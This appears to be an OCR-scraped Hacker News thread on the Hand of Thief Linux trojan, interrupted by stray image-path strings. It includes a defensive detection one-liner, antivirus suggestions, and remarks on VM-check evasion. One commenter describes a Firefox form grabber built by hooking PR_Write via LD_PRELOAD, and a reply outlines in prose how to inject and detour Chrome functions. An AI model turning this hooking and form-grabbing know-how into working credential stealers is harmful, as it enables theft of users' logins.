"The known version of Hanthie is starting processes using a fake Kernel process in user-space called [flush-8:0] and starting from the init process instead of the kernel process. So the current detection can be performed from user-space with the following script:

        if [[ $(ps -eaf|grep "\[flush" | tr -s " "  |cut -d" " -f 3|grep ^1$) ]];   then echo "Infection suspected";   else echo "No infection suspected"; fifrom https://www.circl.lu/pub/tr-15/

Can anyone explain how the form grabbing for Chrome works? For a code base as large as Chrome's, how would one go about finding the function(s) involved with sending POST data? There was a thread on HN about a month ago about Hand of Thief which sparked my curiosity. I was able to write a crude form grabber for Firefox, but couldn't figure out how to do it for Chrome.

For Firefox, I know about PR_Write (There's some information for how to form grab Firefox under Windows which I found applicable). Since PR_Write function is in a shared library, you can use LD_PRELOAD to get Firefox to call your custom form-grabbing PR_Write, which can then call the original one.

Not trying to do anything malicious - just genuinely curious.

This applies if the function you are looking for is not easily accessible, i.e. not an exported symbol in some shared library.

You find the function you are interested in in Chromes code base, then look for it in the compiled binary or library its located in (with debug symbols, usually). You build a pattern from the functions code bytes. You then inject your evil library into the target process (also through LD_PRELOAD, but there are tons of ways) and have it search in the process memory for the function from the bytes you acquired previously. You temporarily change the page protections and overwrite the first few bytes of the target function to instead jump directly into your code.

You have to be careful with calling conventions or you will corrupt the stack, and often you want to preserve the originalbytes of the function such that you can call into it from your replacement function.

This is what is called a hook, or a detour. Microsoft even has a library for this that does all of the previous in a neat package (http://research.microsoft.com/en-us/projects/detours/), but the basic redirection is very simple.

>Immediately after start, the Trojan checks if it does not run in a virtualized environment

What would be the performance implications of running everything under a virtual machine on a very light host OS? The idea had not previously occurred to me, but it seems like there would be a ton of advantages to that, including increased security.

I know that some compatibility issues will vary depending on VM software, but from a pure performance perspective, what kind of loss are we looking at?

These days, not much, 5-10%. Most VMs "cheat" and are effectively paravirtualized (e.g. using guest additions that talk to the hypervisor directly).

I played some with VirtualBox and an Ubuntu install, and it looks like the graphics support really isn't there yet (WebGL didn't work at all, for example), but I might give it another shot with a non-free alternative at some point.

So as it seems "commercial" malware is coming to the linux desktop: Are there already any good, free anti virus programs for linux?

I had a quick look at http://www.clamav.net/ but it seems to target mainly windows stuff attached to mails and from some comments on the net isn't that reliable at detecting knownmalicous stuff ...

I haven't looked in awhile, but ClamAV actually did very well in some third party virus tests. You shouldn't need a Linux specific product. Good AV systems detect viruses for multiple platforms irregardless of the host performing the scan. It's actually really hard to gauge AV effectiveness, so take those published tests with some healthy skepticism. ClamAV detects Linux and Windows viruses, but does not include an on access scanner. It's usually fired off manually or hooked via otherprograms (spam scanners).

There is however, a fuse FS ClamFS http://clamfs.sourceforge.net/ that provides on access scanning for Linux with ClamAV. I have no idea how much overhead that incurs, but it probably isn't a small amount. A lot of enterprise offerings provide on access scanning (McAfee, F-Prot, Kaspersky, and more).

I'd imagine there are Firefox and Chrome add ons as well.

You want maldet[1], it uses clamscan.

[1] - http://www.rfxn.com/projects/linux-malware-detect/

I sometimes get Windows virusattachments in emails, when clam doesn't identify them as a virus, usually avg can. I'd hope it can catch Linux viruses and trojans too.

TIL: create a scsi device named after the pattern virtual box uses and be immune to all trojans.

The article states "we observed an anti-monitoring check (no communication if wireshark ortcpdump is running)". Does anyone how how resistant it would be to logging of outbound connections with iptables?

How do we detect it's presence ?

Not entirely sure about detection, but it seems like you could just add some "fake" indicators to your distro to make it look like it's a VM instance and the trojan will helpfully delete itself.

Much ado aboutnothing.

Guidelines | FAQ | Support | API | Security | Lists |Bookmarklet | DMCA |Apply to YC | Contact